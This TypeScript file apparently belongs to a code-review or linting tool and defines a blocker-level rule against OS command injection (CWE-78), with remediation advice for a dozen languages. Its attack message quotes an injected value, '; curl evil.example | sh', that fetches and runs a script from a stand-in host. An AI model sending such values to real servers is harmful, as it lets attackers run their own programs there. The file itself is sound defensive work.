import type { Rule } from "../../domain/rule.ts";
import { inputHits, type InsteadTable } from "./sightings.ts";

const INSTEAD: InsteadTable = {
  default:
    "Call the program without a shell, with its arguments as a list; take the program's name from a fixed list.",
  program:
    "Look the program up in a fixed list by what the client asks for; never run the name that was sent.",
  javascript:
    'Use `execFile("git", ["log", "--", name])` or `spawn` without `shell`: each argument arrives as it is. Put `--` before values that may begin with a dash.',
  execa:
    'Hand the arguments over as a list, without `shell`: `execa("git", ["log", "--", name])`, or as a template of execa\'s own `$`, which quotes them.',
  shelljs:
    "Use `execFile` of `node:child_process` with a list of arguments; `shelljs.exec` always runs a shell.",
  ssh2: "Quote every value for the remote shell, or check it against an anchored pattern such as `/^[a-z0-9-]+$/` before it goes into the command.",
  python:
    'Use `subprocess.run(["git", "log", "--", name], check=True)` without `shell=True`. Where a shell is needed, quote with `shlex.quote`.',
  go: 'Use `exec.CommandContext(ctx, "git", "log", "--", name)` with a fixed program, not `sh -c`.',
  java: 'Use `new ProcessBuilder("git", "log", "--", name)` with a fixed program and separate arguments, not `sh -c` and not one string.',
  kotlin:
    'Use `ProcessBuilder("git", "log", "--", name)` with a fixed program and separate arguments, not `sh -c` and not one string.',
  ruby: 'Use `system("git", "log", "--", name)` or `Open3.capture3` with separate arguments: no shell is started. Backticks and one string always start one.',
  php: 'Use `new Process(["git", "log", "--", $name])` of symfony/process, or `proc_open` with an array; otherwise `escapeshellarg` around every value.',
  rust: 'Use `Command::new("git").args(["log", "--", name])` with a fixed program, not `sh -c`.',
};

/** A command for a shell, or the name of a program, that a client chooses in part. */
export const commandFromInput: Rule<"source"> = {
  id: "security/command-from-input",
  architect: "security-architect",
  severity: "blocker",
  judges: "source",
  when: "a value from the request becomes part of a command that the server runs",
  harm: "Whoever chooses the value runs programs of their own on the server, with its files, keys and network.",
  instead: "Call a fixed program without a shell, with its arguments as a list.",
  source: "https://cwe.mitre.org/data/definitions/78.html",
  appliesTo: ({ sightings }) => sightings.some(({ kind }) => kind === "command-from-input"),
  check: (facts) =>
    inputHits(facts, {
      kind: "command-from-input",
      becomes: ({ detail }) =>
        detail === "program" ? "is the program that is run by" : "becomes part of the command run by",
      attack: ({ detail }) =>
        detail === "program"
          ? "A client names another program of the server as this value, and the server runs it."
          : "A client sends `; curl evil.example | sh` or `$(...)` as this value, and the shell runs it as a command of its own.",
      severities: { request: "blocker", parameter: "note" },
      instead: INSTEAD,
    }),
};
